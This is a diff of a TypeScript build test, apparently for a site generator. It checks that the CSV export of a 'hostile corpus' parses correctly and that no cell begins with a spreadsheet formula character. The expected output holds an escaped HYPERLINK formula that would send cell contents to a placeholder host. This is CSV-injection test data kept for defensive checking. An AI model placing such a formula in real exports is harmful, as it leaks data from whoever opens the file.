@@ -10,7 +10,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { runInNewContext } from 'node:vm';
 import { after, before, describe, it } from 'node:test';
-import { parse as parseCsv } from 'csv-parse/sync';
+import { FORMULA_START, parseStrictCsvRecords } from '../support/strict-csv.ts';
 import { XMLParser, XMLValidator } from 'fast-xml-parser';
 import { HtmlValidate } from 'html-validate';
 import { htmlValidateConfig } from '../site/htmlvalidate.config.ts';
@@ -216,9 +216,9 @@ describe('a build of the hostile corpus', () => {
 
   it('exports: JSON parses, CSV parses with one row per article and no cell a spreadsheet would run', () => {
     const csv = readFileSync(join(project.out, 'data', 'articles.csv'), 'utf8');
-    const rows = parseCsv(csv, { columns: true, bom: true }) as Record<string, string>[];
+    const rows = parseStrictCsvRecords(csv);
     assert.equal(rows.length, articles.length);
-    for (const row of rows) for (const cell of Object.values(row)) assert.ok(!/^[=+\-@\t\r]/.test(cell), `formula cell: ${cell.slice(0, 40)}`);
+    for (const row of rows) for (const cell of Object.values(row)) assert.ok(!FORMULA_START.test(cell), `formula cell: ${cell.slice(0, 40)}`);
     const formula = rows.find((r) => r.sourceFile === 'teks-formula.txt')!;
     assert.equal(formula.title, `'=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik") Judul Formula`);
     assert.equal(formula.lead, "'+62 orang hadir, kata panitia pada Selasa (4/2/2020). Angka ini naik.");
